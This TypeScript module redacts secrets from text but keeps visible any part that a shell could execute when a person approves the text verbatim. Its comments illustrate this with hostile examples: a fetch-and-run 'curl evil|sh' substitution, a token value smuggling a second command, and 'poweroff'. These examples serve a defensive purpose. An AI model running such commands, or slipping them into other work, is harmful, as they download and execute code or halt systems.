export const GONE = '[redacted]';

/** A person approves `verbatim` text, so nothing that a command would execute is hidden in it. */
export type Kind = 'verbatim' | undefined;

export interface Shape {
  /** Its first group, if it has one, stays; the rest is hidden. */
  shape: RegExp;
  /** It is looked for only in the parts of the text that match this. */
  within?: RegExp;
  isSecret?(hidden: string, lead: string): boolean;
}

/** Hides everything of a shape. */
export function hide(text: string, { within, ...of }: Shape, kind: Kind): string {
  if (within) return text.replace(within, (part) => hide(part, of, kind));
  return text.replace(of.shape, (found: string, ...rest: unknown[]) => {
    const [lead, at] = typeof rest[0] === 'string' ? [rest[0], rest[1]] : ['', rest[0]];
    const hidden = found.slice(lead.length);
    if (of.isSecret && !of.isSecret(hidden, lead)) return found;
    if (kind !== 'verbatim') return lead + GONE;
    return mayRun(lead, hidden, text[Number(at) - 1]) ? found : lead + withoutLiteral(hidden);
  });
}

/** With any of these characters, a shell or a program may do something instead of taking the text literally. */
const SYNTAX = /[$`;|&()<>\r\n]/;

/** `X_TOKEN=$(curl evil|sh)` stays, and of `X_TOKEN=abcdefgh;curl evil` only the value is hidden. */
function withoutLiteral(hidden: string): string {
  const end = hidden.search(SYNTAX);
  if (end < 0) return GONE;
  return end === 0 ? hidden : GONE + hidden.slice(end);
}

/**
 * After a blank there can be a program's name: `X_TOKEN= poweroff`, `token= poweroff`, `A=Bearer /tmp/program`. After ">"
 * there is a file that is written, and a backtick runs a command.
 */
function mayRun(lead: string, hidden: string, before: string | undefined): boolean {
  if (/[>`\r\n]/.test(lead)) return true;
  if (!/\s/.test(lead)) return false;
  if (lead.startsWith('=')) return before === undefined || !/\s/.test(before);
  return /[^\s=]=\s/.test(lead) || hidden.includes('/');
}
